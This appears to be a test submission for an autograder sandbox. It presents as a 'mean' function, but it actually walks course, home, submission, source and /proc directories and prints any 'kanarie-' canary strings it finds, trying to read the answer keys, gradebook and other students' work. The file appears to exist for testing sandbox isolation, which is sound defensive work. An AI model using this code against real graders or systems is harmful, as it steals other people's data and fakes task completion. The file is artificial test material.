# /// attack
# tries = "reads the source, the keys, the gradebook and the other submissions"
# shows = "looked"
# ///

# %% answer s_mean
import os, re


def mean(values):
    for top in ("{{COURSE}}", "{{HOME}}", "../submitted", "../../submitted", "../../../source", "/folders", "/proc/1/root{{COURSE}}", "/proc/1/cwd"):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        print(re.findall(rb"kanarie-\w+-\w+", file.read()))
                except OSError:
                    pass
    print("looked")
    return 0
